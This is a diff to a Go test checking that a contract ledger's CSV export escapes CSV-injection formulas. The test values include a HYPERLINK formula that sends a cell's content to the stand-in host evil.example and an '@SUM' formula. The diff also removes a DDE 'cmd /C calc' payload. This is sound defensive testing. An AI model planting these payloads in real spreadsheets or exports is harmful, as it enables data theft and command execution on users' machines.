@@ -12,14 +12,16 @@ import (
 	"github.com/google/uuid"
 )
 
-// No cell of an export starts a formula (CSV injection): a CPTS and an
-// ARS named to run one come out as text, in both separators; negative
-// amounts stay numbers.
+// No cell of an export starts a formula (CSV injection): a CPTS and a
+// CPAM named to run one come out as text, in both separators; negative
+// amounts stay numbers. (An ARS is one of the eighteen agencies now: a
+// command naming another is refused; SafeCell covers the cells of older
+// ledgers.)
 func TestExportCellsAreNotFormulas(t *testing.T) {
 	l := newLedger(t)
 	id := uuid.New()
 	name := `=HYPERLINK("http://evil.example/?"&A2,"Voir")`
-	ars := `+cmd|' /C calc'!A0`
+	ars := `ARS Grand Est`
 	l.submitAll(t,
 		fmt.Sprintf(`{"type":"SignContract","command_id":"s","contract_id":%q,"cpts":{"id":"c-1","name":%q},"ars":%q,"cpam":"@SUM(1+1)","population":50000,"signed_on":"2020-01-15","missions":["access","pathways","prevention"],"snp_regulation":false,"indicators":[{"mission":"access","code":"a","weight":"1","target":"1"},{"mission":"pathways","code":"p","weight":"1","target":"1"},{"mission":"prevention","code":"v","weight":"1","target":"1"}]}`, id, name, ars),
 		fmt.Sprintf(`{"type":"DecideDuePayments","command_id":"d","contract_id":%q,"as_of":"2020-02-01"}`, id))
@@ -40,7 +42,7 @@ func TestExportCellsAreNotFormulas(t *testing.T) {
 					t.Errorf("sep %q: a cell starts a formula: %q", sep, cell)
 				}
 			}
-			if row[2] != "'"+name || row[4] != "'"+ars || row[3] != "'@SUM(1+1)" {
+			if row[2] != "'"+name || row[4] != ars || row[3] != "'@SUM(1+1)" {
 				t.Errorf("sep %q: beneficiary %q, ars %q, cpam %q", sep, row[2], row[4], row[3])
 			}
 		}
